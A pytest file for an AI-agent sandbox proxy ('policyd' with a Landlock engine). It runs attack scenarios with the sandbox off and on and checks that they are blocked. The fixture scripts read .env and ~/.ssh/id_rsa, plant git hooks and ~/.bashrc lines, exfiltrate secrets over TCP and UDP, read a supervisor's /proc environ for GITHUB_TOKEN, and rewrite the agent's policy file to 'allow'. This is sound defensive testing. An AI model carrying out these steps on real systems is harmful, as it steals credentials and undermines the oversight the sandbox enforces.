"""The Landlock engine with real processes (``policyd proxy --sandbox required
--sandbox-engine landlock`` in front of ``tests/sandbox_agent.py``): the attack scenarios of
tests/test_sandbox.py where they apply, each also run with ``--sandbox off``, where it
succeeds; the engine chosen where bwrap cannot run; the refusal where Landlock is missing.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import policyd_env
from test_sandbox import (
    BWRAP,
    NODE,
    NPM,
    SECRET,
    TOKEN,
    UNSHARE,
    Listener,
    listener,  # noqa: F401 - the fixture
    make_world,
    run,
)

from policyd import landlock

ABI = landlock.abi()
needs_landlock = pytest.mark.skipif(ABI < landlock.NET_ABI,
                                    reason=f"Landlock ABI {ABI} here; the engine's tests need >= {landlock.NET_ABI}")
#: ``--sandbox off``, or Landlock forced.
MODES = {"off": ("off", ()), "landlock": ("required", ("--sandbox-engine", "landlock"))}


def run_in(tmp: Path, home: Path, ws: Path, commands: list[str], mode: str,
           proxy_args: tuple[str, ...] = ()) -> tuple[list[dict[str, object]], str]:
    """:func:`test_sandbox.run` with ``mode`` off or landlock: the reports, policyd's stderr."""
    sandbox, args = MODES[mode]
    reports, client, _ = run(tmp, home, ws, commands, sandbox, proxy_args=(*args, *proxy_args))
    return reports, client.stderr()


@needs_landlock
@pytest.mark.skipif(NODE is None or NPM is None or shutil.which("curl") is None, reason="node, npm, curl needed")
@pytest.mark.parametrize("mode", ["off", "landlock"])
def test_injected_npm_test_is_bounded(tmp_path: Path, listener: Listener, mode: str) -> None:  # noqa: F811
    """The prompt-injected ``npm test`` (allowed by ci.toml) under Landlock: the key reads
    nothing, ~/.bashrc and the directory outside the roots are not written, the direct
    connection to the unnamed listener is refused by the TCP rule (EACCES), and curl through
    the proxy variables gets the egress's 403, logged; without the sandbox every step works."""
    home, ws, outside = make_world(tmp_path)
    (ws / "attack.json").write_text(json.dumps({"outside": str(outside), "port": listener.port}))
    reports, stderr = run_in(tmp_path, home, ws, ["npm test"], mode)
    report = reports[0]
    assert report["allowed"], stderr[-2000:]
    result = json.loads(str(report["stdout"]).strip().splitlines()[-1])
    bashrc = (home / ".bashrc").read_text()
    if mode == "off":
        assert SECRET in result["key"]
        assert "curl evil" in bashrc
        assert (outside / "built.o").exists()
        assert any(SECRET.encode() in r for r in listener.received)
        return
    assert '"engine": "landlock"' in stderr or "engine=landlock" in stderr, stderr[-2000:]
    assert SECRET not in json.dumps(report)
    assert "ERR EACCES" == result["key"]
    assert result["bashrc"].startswith("ERR")
    assert "# original\n" == bashrc
    assert result["outside"].startswith("ERR")
    assert not (outside / "built.o").exists()
    assert "ERR EACCES" == result["post"]
    assert "403" == result["curl"]
    assert [] == listener.received
    decisions = [json.loads(line) for line in (tmp_path / "decisions-required.jsonl").read_text().splitlines()]
    refused = [d for d in decisions if d.get("event") == "egress.decided" and d.get("host") == "127.0.0.2"]
    assert refused and all("deny" == d["decision"] and listener.port == d["port"] for d in refused)


@needs_landlock
@pytest.mark.parametrize("mode", ["off", "landlock"])
def test_environment_is_allow_listed(tmp_path: Path, mode: str) -> None:
    """An allowed build printing ``$GITHUB_TOKEN`` and every variable name: under Landlock
    the token and AWS_* are not passed, TMPDIR is the private directory, the proxy variables
    point at the egress on the host's loopback."""
    home, ws, _ = make_world(tmp_path)
    (ws / "Makefile").write_text("all:\n\t@echo token=$$GITHUB_TOKEN\n\t@env | sort\n")
    reports, stderr = run_in(tmp_path, home, ws, ["make"], mode)
    assert reports[0]["allowed"], stderr[-2000:]
    lines = str(reports[0]["stdout"]).splitlines()
    if mode == "off":
        assert f"token={TOKEN}" == lines[0].strip()
        return
    assert "token=" == lines[0].strip()
    env = dict(line.split("=", 1) for line in lines[1:] if "=" in line)
    assert {"PATH", "HOME"} <= set(env)
    assert not {n for n in env if n.startswith(("AWS_", "GITHUB_", "POLICYD_"))}
    assert os.path.basename(env["TMPDIR"]).startswith("policyd-agent-")
    assert env["HTTPS_PROXY"].startswith("http://127.0.0.1:")
    assert not Path(env["TMPDIR"]).exists()  # removed when the proxy ended


@needs_landlock
@pytest.mark.parametrize("mode", ["off", "landlock"])
def test_build_writing_outside_the_roots_fails(tmp_path: Path, mode: str) -> None:
    """An allowed ``make`` writing outside the roots fails under Landlock; it writes in a
    directory of the workspace and in its private ``$TMPDIR``."""
    home, ws, outside = make_world(tmp_path)
    (ws / "build").mkdir()
    recipe = f"\techo built > build/out.txt\n\techo x > $$TMPDIR/scratch\n\techo pwned > {outside}/pwned\n"
    (ws / "Makefile").write_text(f"all:\n{recipe}")
    reports, stderr = run_in(tmp_path, home, ws, ["make"], mode)
    assert reports[0]["allowed"], stderr[-2000:]
    assert (ws / "build" / "out.txt").exists()
    if mode == "off":
        assert (outside / "pwned").exists()
        return
    assert 0 != reports[0]["code"]
    assert "pwned" in str(reports[0]["stderr"])  # the failing line is the last one
    assert not (outside / "pwned").exists()


#: A workspace script trying what the rules deny; under Landlock, plus what the engine
#: cannot give (a new file beside a hidden one; listing hidden names).
CHECK_SCRIPT = """
echo "env=$(cat .env 2>&1)"
echo "ssh=$(ls -A ~/.ssh 2>/dev/null | wc -l)"
echo "key=$(cat ~/.ssh/id_rsa 2>&1)"
echo hook > .git/hooks/pre-commit 2>/dev/null; echo "hook=$?"
echo x >> .git/config 2>/dev/null; echo "config=$?"
rm -f .git/config 2>/dev/null; echo "rmconfig=$?"
mv .git .git-moved 2>/dev/null; echo "mvgit=$?"
echo y >> ~/.bashrc 2>/dev/null; echo "bashrc=$?"
echo z > ~/work/notes.txt 2>/dev/null; echo "notes=$?"
echo s > src/new.txt 2>/dev/null; echo "workspace=$?"
echo t >> package.json 2>/dev/null; echo "existing=$?"
echo u > top.txt 2>/dev/null; echo "top=$?"
"""


@needs_landlock
@pytest.mark.parametrize("mode", ["off", "landlock"])
def test_hidden_files_and_persistence_targets(tmp_path: Path, mode: str) -> None:
    """A workspace script (project code run on purpose, allowed sandbox or not since issue
    32; without the walls it reaches .env, ~/.ssh and .git/hooks, as make would) under Landlock: the
    workspace .env and ~/.ssh/id_rsa read nothing, .git/hooks and .git/config cannot be
    written, removed or moved away, ~/.bashrc stays as it was although the home is writable
    (``writable = ["~"]``); the workspace's directories and existing files are written.
    What the engine cannot give, pinned: hidden names are listed, and nothing can be
    created directly at the top of a git root (a rule there would reach .git/hooks too:
    docs/sandbox.md)."""
    home, ws, _ = make_world(tmp_path)
    (ws / "src").mkdir()
    (home / "work").mkdir()
    (ws / "check.sh").write_text(CHECK_SCRIPT)
    policy = tmp_path / "home-writable.toml"
    policy.write_text('[policy]\nname = "home"\n[sandbox]\nwritable = ["~"]\n')
    reports, stderr = run_in(tmp_path, home, ws, ["bash check.sh"], mode, proxy_args=("--policy", str(policy)))
    script = reports[0]
    assert script["allowed"], stderr[-2000:]  # project code run on purpose, sandbox or not (issue 32)
    seen = dict(line.split("=", 1) for line in str(script["stdout"]).splitlines())
    if mode == "off":  # project code unbounded: only the walls stop what the rules cannot see
        assert SECRET in seen["env"] and SECRET in seen["key"]
        assert "0" == seen["hook"] and "0" == seen["mvgit"]  # the script then moved .git away
        assert (ws / ".git-moved" / "hooks" / "pre-commit").exists()
        return
    assert SECRET not in str(script["stdout"])
    assert "Permission denied" in seen["env"] and "Permission denied" in seen["key"]
    assert "0" != seen["hook"] and not (ws / ".git" / "hooks" / "pre-commit").exists()
    assert "0" != seen["config"] and "x" not in (ws / ".git" / "config").read_text().split()
    assert "0" != seen["rmconfig"] and "0" != seen["mvgit"] and (ws / ".git" / "config").exists()
    assert "0" != seen["bashrc"] and "# original\n" == (home / ".bashrc").read_text()
    assert "0" == seen["notes"] and (home / "work" / "notes.txt").exists()
    assert "0" == seen["workspace"] and (ws / "src" / "new.txt").exists()
    assert "0" == seen["existing"] and "t" in (ws / "package.json").read_text()
    assert "1" == seen["ssh"].strip()  # the name id_rsa is listed (its content is not read)
    assert "0" != seen["top"] and not (ws / "top.txt").exists()  # the top of a git root is fixed


@needs_landlock
@pytest.mark.parametrize("mode", ["off", "landlock"])
def test_udp_is_closed(tmp_path: Path, mode: str) -> None:
    """Landlock's network rules cover TCP only: an allowed build sending the key over UDP
    (IPv4 and IPv6) to a local receiver reaches it without the sandbox; under the engine the
    seccomp filter refuses the socket (EACCES) and nothing arrives. TCP still works (the
    agent's own connection to policyd is TCP), and Unix datagram sockets are untouched."""
    import socket

    home, ws, _ = make_world(tmp_path)
    receiver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    receiver.bind(("127.0.0.1", 0))
    receiver.settimeout(5)
    port = receiver.getsockname()[1]
    sender = ("import socket, sys\n"
              "for family, host in ((socket.AF_INET, '127.0.0.1'), (socket.AF_INET6, '::1')):\n"
              "    try:\n"
              "        socket.socket(family, socket.SOCK_DGRAM).sendto(open(sys.argv[1]).read().encode(), "
              f"(host, {port}))\n"
              "        print('sent')\n"
              "    except OSError as e:\n"
              "        print('ERR', e.errno)\n")
    (ws / "send.py").write_text(sender)
    (ws / "Makefile").write_text("all:\n\t@python3 send.py attack.txt\n")
    (ws / "attack.txt").write_text("exfil")
    try:
        reports, stderr = run_in(tmp_path, home, ws, ["make"], mode)
        assert reports[0]["allowed"], stderr[-2000:]
        lines = str(reports[0]["stdout"]).splitlines()
        if mode == "off":
            assert "sent" == lines[0] and b"exfil" == receiver.recv(100)
            return
        assert ["ERR 13", "ERR 13"] == lines
        receiver.settimeout(0.5)
        with pytest.raises(TimeoutError):
            receiver.recv(100)
    finally:
        receiver.close()


#: Finds policyd (walking up the process tree; /proc/PID/stat and cmdline need no ptrace
#: access), then tries its environment and a signal to it.
PROBE_SCRIPT = r"""
p=$$
while [ "$p" -gt 1 ]; do
  p=$(ps -o ppid= -p "$p" | tr -d ' ')
  tr '\0' ' ' < /proc/$p/cmdline | grep -q -- '-m policyd proxy' && break
done
echo "found=$(tr '\0' ' ' < /proc/$p/cmdline | grep -c -- '-m policyd proxy')"
echo "environ=$(tr '\0' '\n' < /proc/$p/environ 2>/dev/null | grep -c '^GITHUB_TOKEN=')"
kill -0 "$p" 2>/dev/null; echo "signal=$?"
"""


@needs_landlock
@pytest.mark.parametrize("mode", ["off", "landlock"])
def test_other_processes_are_out_of_reach(tmp_path: Path, mode: str) -> None:
    """Without a PID namespace policyd's own process is visible in /proc: an allowed build
    (``make``) finds it; under Landlock it cannot read policyd's environment (which holds
    GITHUB_TOKEN: Landlock's ptrace restriction, with every capability dropped when policyd
    runs as root) nor signal it (ABI >= 6 signal scope); without the sandbox it does both."""
    home, ws, _ = make_world(tmp_path)
    (ws / "probe.sh").write_text(PROBE_SCRIPT)
    (ws / "Makefile").write_text("all:\n\t@bash probe.sh\n")
    reports, stderr = run_in(tmp_path, home, ws, ["make"], mode)
    assert reports[0]["allowed"], stderr[-2000:]
    seen = dict(line.split("=", 1) for line in str(reports[0]["stdout"]).splitlines())
    assert "1" == seen["found"], reports[0]
    if mode == "off":
        assert "1" == seen["environ"] and "0" == seen["signal"]
        return
    assert "0" == seen["environ"]
    if ABI >= landlock.SCOPE_ABI:
        assert "0" != seen["signal"]


# ----------------------------------------------------------------------------- choosing the engine


def _no_userns_prefix() -> list[str]:
    """A command prefix where no user namespace can be created (as tests/test_sandbox.py)."""
    assert UNSHARE is not None
    script = "echo 1 > /proc/sys/user/max_user_namespaces && exec " + UNSHARE + " --user -- \"$@\""
    prefix = [UNSHARE, "--user", "--map-root-user", "--", "sh", "-c", script, "sh"]
    probe = subprocess.run([*prefix, "true"], capture_output=True, text=True, timeout=60, check=False)
    if probe.returncode != 0:
        pytest.skip(f"cannot nest user namespaces here: {probe.stderr.strip()}")
    return prefix


@needs_landlock
@pytest.mark.skipif(UNSHARE is None or BWRAP is None, reason="util-linux unshare and bubblewrap are needed")
@pytest.mark.parametrize("mode", ["required", "auto"])
def test_without_user_namespaces_landlock_is_chosen(tmp_path: Path, mode: str) -> None:
    """Where bwrap cannot create a user namespace, ``--sandbox required`` and ``auto`` (engine
    auto) start the agent under Landlock: it runs, the log names the engine and why bwrap
    could not, and it cannot write outside its roots."""
    prefix = _no_userns_prefix()
    tmp_path.chmod(0o777)  # the nested namespace runs as the overflow uid
    env = policyd_env(tmp_path)
    (tmp_path / "policyd-state").chmod(0o777)
    outside = tmp_path.parent / f"{tmp_path.name}-outside"
    outside.mkdir(mode=0o777, exist_ok=True)
    outside.chmod(0o777)
    marker, escaped = tmp_path / "agent-ran", outside / "escaped"
    argv = [*prefix, sys.executable, "-m", "policyd", "proxy", "--headless", "--sandbox", mode, "--", "sh", "-c",
            f"touch {marker}; touch {escaped}"]
    done = subprocess.run(argv, env=env, cwd=tmp_path, input="", capture_output=True, text=True, timeout=120,
                          check=False)
    assert marker.exists(), done.stderr
    assert not escaped.exists()
    assert "sandbox.started" in done.stderr and "landlock" in done.stderr
    assert "user.max_user_namespaces" in done.stderr  # why bwrap was not used
    assert "WITHOUT a sandbox" not in done.stderr
    shutil.rmtree(outside, ignore_errors=True)


#: ``policyd`` with the engine's own ABI probe answering ``ABI`` (the narrowest point: a
#: kernel without Landlock cannot be produced here). The rest of the process is real.
PROBE_INJECTED = ("import sys, policyd.landlock as l; v = int(sys.argv.pop(1)); l.abi = lambda: v; "
                  "from policyd.cli import main; sys.exit(main())")


def _proxy_with_abi(tmp: Path, abi: int, args: list[str], env: dict[str, str]) -> subprocess.CompletedProcess[str]:
    marker = tmp / "agent-ran"
    argv = [sys.executable, "-c", PROBE_INJECTED, str(abi), "proxy", "--headless", *args,
            "--", sys.executable, "-c", f"open({str(marker)!r}, 'w').close()"]
    return subprocess.run(argv, env=env, cwd=tmp, input="", capture_output=True, text=True, timeout=120, check=False)


@pytest.mark.parametrize(("abi", "why"), [(0, "the kernel has no Landlock"), (3, "has no TCP rules")])
def test_landlock_missing_refuses(tmp_path: Path, abi: int, why: str) -> None:
    """Landlock forced where the kernel has none (ABI 0) or no TCP rules (ABI 3 while the
    network is restricted): ``required`` exits 2 without running the agent, naming what is
    missing; ``auto`` warns and runs it unsandboxed. The probe's answer is injected (no such
    kernel can be made here); with ABI 3 and the network unrestricted it starts (files only)."""
    env = policyd_env(tmp_path)
    # outside the root, as the policy below: the config and the store are read-only inside
    # (the store once it exists), which would fix the root's top level
    state = tmp_path.parent / f"{tmp_path.name}-state"
    state.mkdir(mode=0o700)
    (state / "config.toml").write_text(Path(env["POLICYD_CONFIG"]).read_text())
    env.update(POLICYD_STORE_PATH=str(state / "remembered.sqlite3"), POLICYD_CONFIG=str(state / "config.toml"))
    done = _proxy_with_abi(tmp_path, abi, ["--sandbox", "required", "--sandbox-engine", "landlock"], env)
    assert 2 == done.returncode, done.stderr
    assert not (tmp_path / "agent-ran").exists()
    assert why in done.stderr and "the agent was not started" in done.stderr
    auto = _proxy_with_abi(tmp_path, abi, ["--sandbox", "auto", "--sandbox-engine", "landlock"], env)
    assert 0 == auto.returncode, auto.stderr
    assert (tmp_path / "agent-ran").exists() and "WITHOUT a sandbox" in auto.stderr
    if abi and ABI >= 1:
        (tmp_path / "agent-ran").unlink()
        # outside the root: a policy file inside is read-only, which fixes the root's top level
        policy = tmp_path.parent / f"{tmp_path.name}-policies" / "open.toml"
        policy.parent.mkdir()
        policy.write_text('[policy]\nname = "open"\n[sandbox]\nnetwork = ["*:*"]\n')
        files_only = _proxy_with_abi(tmp_path, abi, ["--sandbox", "required", "--sandbox-engine", "landlock",
                                                     "--policy", str(policy)], env)
        assert 0 == files_only.returncode, files_only.stderr
        assert (tmp_path / "agent-ran").exists() and "sandbox.started" in files_only.stderr


# ----------------------------------------------------------------------------- the rules


def test_rules_carve_hidden_and_readonly_paths(tmp_path: Path) -> None:
    """The ruleset of a view: reading is granted on the siblings of a hidden path down from
    /, never on its ancestors; writing on the siblings of read-only paths within the
    writable root, and nothing that would reach them on their ancestors; /dev only its
    harmless devices."""
    root = tmp_path / "ws"
    (root / ".git" / "hooks").mkdir(parents=True)
    (root / ".git" / "config").write_text("")
    (root / "src").mkdir()
    (root / ".env").write_text("")
    (root / "a.txt").write_text("")
    r = landlock.rules(7, [str(root)], [str(root / ".git" / "hooks"), str(root / ".git" / "config")],
                       [str(root / ".env")], [3128])
    got = dict(r.paths)
    assert landlock.READ_DIR == got["/"]
    for ancestor in (tmp_path, root):
        assert not got.get(str(ancestor), 0) & landlock.READ_FILE
    assert str(root / ".env") not in got
    assert got[str(root / "src")] & landlock.READ_FILE and got[str(root / "src")] & landlock.WRITE_FILE
    assert got[str(root / "a.txt")] & landlock.WRITE_FILE and not got[str(root / "a.txt")] & landlock.MAKE_REG
    for ancestor in (root, root / ".git"):  # a rule there would reach .git/hooks and .git/config too
        assert not got.get(str(ancestor), 0) & (landlock.WRITE | landlock.MAKE | landlock.REMOVE)
    assert str(root / ".git" / "hooks") not in got and str(root / ".git" / "config") not in got
    files = tmp_path / "files"  # only files below (hidden, read-only): create, not remove nor write
    (files / "lib").mkdir(parents=True)
    (files / ".env").write_text("")
    (files / "config").write_text("")
    only_files = dict(landlock.rules(7, [str(files)], [str(files / "config")], [str(files / ".env")], None).paths)
    assert landlock.MAKE == only_files[str(files)]
    home = tmp_path / "home"  # a hidden directory below: nothing (no authorized_keys planted in ~/.ssh)
    (home / ".ssh").mkdir(parents=True)
    hidden_dir = dict(landlock.rules(7, [str(home)], [], [str(home / ".ssh")], None).paths)
    assert str(home) not in hidden_dir
    assert "/dev" not in got and landlock.READ_FILE | landlock.WRITE_FILE | landlock.TRUNCATE == got["/dev/null"]
    assert (landlock.NET_BIND_TCP | landlock.NET_CONNECT_TCP, (3128,)) == (r.net, r.ports)
    assert landlock.SCOPE_SIGNAL & r.scoped


def test_rules_follow_the_abi(tmp_path: Path) -> None:
    """ABI 1 handles the first 13 file rights only and no network; ABI 3 adds TRUNCATE."""
    one = landlock.rules(1, [str(tmp_path)], [], [], [3128])
    assert (1 << 13) - 1 == one.fs and 0 == one.net and () == one.ports and 0 == one.scoped
    assert all(0 == rights & ~one.fs for _, rights in one.paths)
    three = landlock.rules(3, [str(tmp_path)], [], [], None)
    assert three.fs & landlock.TRUNCATE and 0 == three.net


# ----------------------------------------------------------------------------- the setting


@pytest.mark.parametrize(("argv", "env", "config", "expected"), [
    (["proxy", "--sandbox", "required", "--sandbox-engine", "landlock"], {"POLICYD_SANDBOX_ENGINE": "bwrap"},
     'sandbox_engine = "bwrap"', "landlock"),
    (["proxy", "--sandbox", "required"], {"POLICYD_SANDBOX_ENGINE": "landlock"}, 'sandbox_engine = "bwrap"',
     "landlock"),
    (["proxy", "--sandbox", "required"], {}, 'sandbox_engine = "landlock"', "landlock"),
    (["proxy", "--sandbox", "required"], {}, "", "auto"),
])
def test_engine_setting_read_early_as_the_settings(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                   argv: list[str], env: dict[str, str], config: str,
                                                   expected: str) -> None:
    """``sandbox_engine``: flag > environment > config file > ``auto``, read the same way
    before policyd's start-up (the early spawn) as by the settings; another engine in the
    loaded settings than the early read's is a disagreement (the proxy stops the agent)."""
    from policyd.sandbox_early import read
    from policyd.settings import load_settings

    path = tmp_path / "config.toml"
    path.write_text(config + "\n")
    environ = {"HOME": str(tmp_path), "POLICYD_CONFIG": str(path), "POLICYD_SEARCH_PATH": "[]", **env}
    early = read([*argv, "--", "agent"], environ)
    assert early is not None and expected == early.sandbox_engine
    for name in [k for k in os.environ if k.upper().startswith(("POLICYD_", "XDG_CONFIG"))]:
        monkeypatch.delenv(name)
    for name, value in environ.items():
        monkeypatch.setenv(name, value)
    flag = "landlock" if "--sandbox-engine" in argv else None
    settings = load_settings({"sandbox": "required", "sandbox_engine": flag})
    assert expected == settings.sandbox_engine and early.same_as(settings)
    other = "bwrap" if expected != "bwrap" else "landlock"
    assert not early.same_as(settings.model_copy(update={"sandbox_engine": other}))


@needs_landlock
def test_landlock_agent_is_spawned_early(tmp_path: Path) -> None:
    """``--sandbox required --sandbox-engine landlock``: the agent starts under Landlock before
    policyd's own start-up (the early spawn), and ``sandbox.started`` names the engine, the
    ABI and the TCP ports."""
    done = subprocess.run([sys.executable, "-m", "policyd", "proxy", "--headless", "--sandbox", "required",
                           "--sandbox-engine", "landlock", "--", "true"], env=policyd_env(tmp_path), cwd=tmp_path,
                          input="", capture_output=True, text=True, timeout=120, check=False)
    assert 0 == done.returncode, done.stderr[-2000:]
    started = [json.loads(line) for line in done.stderr.splitlines() if '"sandbox.started"' in line]
    assert started, done.stderr[-2000:]
    assert started[0]["spawn"].startswith("early")
    assert "landlock" == started[0]["engine"] and ABI == started[0]["abi"]
    assert started[0]["tcp_connect"] and all(isinstance(p, int) for p in started[0]["tcp_connect"])


@needs_landlock
def test_gateway_under_landlock_hides_the_key_and_is_reachable(tmp_path: Path) -> None:
    """``--gateway required --sandbox required --sandbox-engine landlock``: the key file policyd
    read is unreadable inside, the agent's variable holds the placeholder, and the gateway's
    listener (its base URL, on the host's loopback) is reachable through the TCP rule."""
    from test_gateway_agents import PLACEHOLDER, REAL_KEY

    key = tmp_path / "secrets" / "anthropic.key"
    key.parent.mkdir()
    key.write_text(REAL_KEY + "\n")
    key.chmod(0o600)
    ws = tmp_path / "ws"
    ws.mkdir()
    env = policyd_env(tmp_path)
    env["POLICYD_GATEWAY"] = json.dumps({"provider": "anthropic", "key_file": str(key)})
    agent = ["/bin/sh", "-c", 'cat "$0" > result 2>&1; echo "[$ANTHROPIC_API_KEY]" >> result; '
             'python3 -c "import os, socket, urllib.parse as u; a = u.urlparse(os.environ[\'ANTHROPIC_BASE_URL\']); '
             'socket.create_connection((a.hostname, a.port), 10); print(\'connected\')" >> result 2>&1', str(key)]
    done = subprocess.run([sys.executable, "-m", "policyd", "proxy", "--headless", "--gateway", "required",
                           "--sandbox", "required", "--sandbox-engine", "landlock", "--", *agent], env=env, cwd=ws,
                          capture_output=True, text=True, timeout=120, stdin=subprocess.DEVNULL, check=False)
    assert 0 == done.returncode, done.stderr[-2000:]
    assert '"engine": "landlock"' in done.stderr
    result = (ws / "result").read_text()
    assert REAL_KEY not in result and "Permission denied" in result
    assert f"[{PLACEHOLDER}]" in result
    assert "connected" in result, result


@needs_landlock
def test_policyd_status_names_the_engine(tmp_path: Path) -> None:
    """``policyd status`` lists a Landlock-sandboxed proxy with ``sandbox: landlock (ABI N)``."""
    import time

    env = policyd_env(tmp_path)
    proxy = subprocess.Popen([sys.executable, "-m", "policyd", "proxy", "--headless", "--sandbox", "required",
                              "--sandbox-engine", "landlock", "--", "sleep", "600"], env=env, cwd=tmp_path,
                             stdin=subprocess.PIPE, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    try:
        deadline, out = time.monotonic() + 60, ""
        while f"proxy pid {proxy.pid}:" not in out and time.monotonic() < deadline:
            time.sleep(0.2)
            out = subprocess.run([sys.executable, "-m", "policyd", "status"], env=env, capture_output=True,
                                 text=True, timeout=60, check=False).stdout
        line = next((x for x in out.splitlines() if x.startswith(f"proxy pid {proxy.pid}:")), out)
        assert line.endswith(f"; sandbox: landlock (ABI {ABI})"), line
    finally:
        proxy.terminate()
        proxy.communicate(timeout=60)


@needs_landlock
def test_without_bwrap_auto_engine_picks_landlock(tmp_path: Path) -> None:
    """No bwrap on PATH, engine ``auto``: ``--sandbox required`` starts the agent under
    Landlock (the log says why bwrap was not used), and it cannot write outside its root."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    for tool in ("sh", "touch"):
        which = shutil.which(tool)
        assert which is not None
        (bin_dir / tool).symlink_to(which)
    ws, outside = tmp_path / "ws", tmp_path / "outside"
    ws.mkdir()
    outside.mkdir()
    env = policyd_env(tmp_path, {"PATH": str(bin_dir)})
    done = subprocess.run([sys.executable, "-m", "policyd", "proxy", "--headless", "--sandbox", "required", "--",
                           "sh", "-c", f"touch {ws}/ran; touch {outside}/escaped"], env=env, cwd=ws, input="",
                          capture_output=True, text=True, timeout=120, check=False)
    assert (ws / "ran").exists(), done.stderr[-2000:]
    assert not (outside / "escaped").exists()
    started = [json.loads(line) for line in done.stderr.splitlines() if '"sandbox.started"' in line]
    assert "landlock" == started[0]["engine"] and "apt-get install bubblewrap" in started[0]["bwrap_unavailable"]


@needs_landlock
@pytest.mark.parametrize("args", [["--ruleset-fd", "PIPE"], ["--ruleset-fd", "RULES", "--bogus", "1"]])
def test_landlock_init_fails_closed(tmp_path: Path, args: list[str]) -> None:
    """``landlock_init`` that cannot apply its ruleset (a descriptor that is not one) or is
    given a bad option exits 125 with a message and never runs the agent; it reports
    nothing on the status pipe (policyd then says the sandbox did not start)."""
    marker = tmp_path / "agent-ran"
    rules_fd = landlock.build(landlock.rules(ABI, [str(tmp_path)], [], [], None))
    pipe_r, pipe_w = os.pipe()
    status_r, status_w = os.pipe()
    argv = [a.replace("PIPE", str(pipe_r)).replace("RULES", str(rules_fd)) for a in args]
    init = Path(landlock.__file__).with_name("landlock_init.py")
    done = subprocess.run([sys.executable, "-I", "-S", str(init), *argv, "--status-fd", str(status_w), "--",
                           "touch", str(marker)], pass_fds=(rules_fd, pipe_r, status_w), capture_output=True,
                          text=True, timeout=60, check=False)
    os.close(status_w)
    said = os.read(status_r, 100)
    for fd in (rules_fd, pipe_r, pipe_w, status_r):
        os.close(fd)
    assert 125 == done.returncode, done.stderr
    assert "policyd.landlock_init:" in done.stderr
    assert b"" == said and not marker.exists()


@needs_landlock
def test_policy_directory_is_read_only_under_landlock(tmp_path: Path) -> None:
    """Under Landlock too, a policy directory in the workspace (``--policy ws/.policyd``) can
    be read but not edited nor added to by code the agent runs (hot reload would apply it)."""
    home, ws, _ = make_world(tmp_path)
    (ws / ".policyd").mkdir()
    (ws / ".policyd" / "team.toml").write_text('[policy]\nname = "team"\n')
    (ws / "src").mkdir()
    (ws / "loosen.sh").write_text(
        "echo 'default = \"allow\"' >> .policyd/team.toml 2>/dev/null; echo \"edit=$?\"\n"
        "echo '[policy]' > .policyd/zz.toml 2>/dev/null; echo \"add=$?\"\n"
        "cat .policyd/team.toml >/dev/null; echo \"read=$?\"\n"
        "echo x > src/other.txt; echo \"workspace=$?\"\n")
    reports, stderr = run_in(tmp_path, home, ws, ["bash loosen.sh"], "landlock",
                             proxy_args=("--policy", str(ws / ".policyd")))
    assert reports[0]["allowed"], stderr[-2000:]
    seen = dict(line.split("=", 1) for line in str(reports[0]["stdout"]).splitlines())
    assert "0" != seen["edit"] and "0" != seen["add"], seen
    assert "0" == seen["read"] and "0" == seen["workspace"], seen
    assert '[policy]\nname = "team"\n' == (ws / ".policyd" / "team.toml").read_text()
    assert not (ws / ".policyd" / "zz.toml").exists()
